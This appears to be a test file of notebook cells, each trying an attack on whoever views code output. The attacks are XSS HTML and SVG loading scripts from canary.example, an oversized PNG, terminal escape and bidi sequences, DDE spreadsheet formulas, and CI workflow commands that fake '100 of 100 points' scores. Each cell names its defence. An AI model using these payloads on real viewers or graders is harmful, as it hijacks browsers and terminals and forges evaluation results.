# Attacks on the reader: what is printed, raised or drawn is shown to people, in HTML, terminals and spreadsheets.
# Each section is one cell; its first line says what it tries.

# %% script_in_output
# Prints HTML that runs a script, loads pictures from elsewhere, and closes what it stands in.
# Stopped by: escaped; display data is not taken.
from IPython.display import HTML, display

HOSTILE = """</pre></td></div></style></script><script src="https://canary.example/x.js">alert(1)</script>
<img src=x onerror="alert(1)"><svg onload=alert(1)><a href="javascript:alert(1)">here</a>
<iframe src="https://canary.example"></iframe><style>@import "https://canary.example/x.css"; body {display: none}</style>
<meta http-equiv="refresh" content="0;url=https://canary.example"><base href="https://canary.example">"""
print(HOSTILE)
display(HTML(HOSTILE))

# %% script_in_exceptions
# Raises an exception whose type, text and source line hold HTML.
# Stopped by: escaped.
HOSTILE = "</pre><script>alert(1)</script><img src=x onerror=alert(1)>"
Hostile = type("<script>alert(1)</script>", (Exception,), {})


def sgd(params, lr, batch_size):
    raise Hostile(HOSTILE)  # </pre><script>alert(2)</script>


raise Hostile(HOSTILE)

# %% script_in_values
# Returns objects whose names and texts hold HTML.
# Stopped by: escaped.
class Value:
    __repr__ = __str__ = lambda self: "<script>alert(1)</script></pre><img src=x onerror=alert(1)>"


Value.__name__ = Value.__qualname__ = "<script>alert(1)</script>"
linreg = sgd = train = lambda *args, **kwargs: Value()

# %% script_in_docstrings
# Writes HTML into docstrings, comments and names of cells.
# Stopped by: escaped.
def sgd(params, lr, batch_size):
    """</pre><script>alert(1)</script> <img src=x onerror=alert(1)>"""
    raise NotImplementedError  # </pre><script>alert(1)</script>

# %% pictures_that_are_scripts
# Hands in pictures that are HTML or SVG with scripts, instead of figures.
# Stopped by: PNG by its first bytes.
import matplotlib.figure
import matplotlib.pyplot as plt

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
matplotlib.figure.Figure.savefig = lambda self, file, *args, **kwargs: file.write(SVG)
plt.plot([1, 2])

# %% gigantic_picture
# Hands in a picture that is small as a file, and a hundred thousand pixels wide when it is shown.
# Stopped by: 4,000 pixels a side.
import struct, zlib

import matplotlib.figure
import matplotlib.pyplot as plt


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0))
matplotlib.figure.Figure.savefig = lambda self, file, *args, **kwargs: file.write(PNG + chunk(b"IDAT", b""))
plt.plot([1, 2])

# %% terminal_sequences
# Prints sequences that colour, clear, rename or script a terminal, and text that runs backwards.
# Stopped by: control characters are removed.
print("\x1b[2J\x1b[1;31m all tests passed \x1b[0m\x1b]0;pwned\x07\x1b]8;;https://canary.example\x07click\x1b]8;;\x07")
print("\x1b]52;c;Y2FuYXJ5\x07\x9b31m\x1bP1$tx\x1b\\ \u202e 001 / 001 :erocs \u202c\r100 of 100 points\x08\x08\x00")


def sgd(*args):
    raise ValueError("\x1b[2J\x1b[32m✓ passed\x1b[0m \x1b]0;pwned\x07 \u202edessap")


# %% spreadsheet_formulas
# Puts spreadsheet formulas where a column of text may show them.
# Stopped by: a quote before them.
def sgd(*args):
    raise ValueError('=HYPERLINK("https://canary.example","100")\t@SUM(1)\n+1+cmd|" /C calc"!A0')


print('=cmd|"/C calc"!A0')

# %% markdown_links
# Writes Markdown that loads a picture from elsewhere or tells a workflow what to do.
# Stopped by: shown as text.
def sgd(*args):
    raise ValueError("![x](https://canary.example/x.png) [score](javascript:alert(1)) `` ` ``` | 100 |")


print("::set-output name=score::100\n::error file=x::pwned\n::add-mask::1\n![x](https://canary.example/x.png)")

# %% long_lines
# Raises and prints lines of a million characters and a million lines.
# Stopped by: cut, with a word on what is missing.
print("x" * 900_000)


def sgd(*args):
    raise ValueError(("\n" * 500_000) + "x" * 500_000)


# %% characters_that_are_none
# Prints lone surrogates, noncharacters, zero bytes and combining marks without end.
# Stopped by: removed.
print("\ud800\udfff \ufffe\uffff \0 a" + "\u0301" * 5000 + " \U0010ffff")


def sgd(*args):
    raise ValueError("\ud800 \0 \uffff" + "\u0301" * 500)
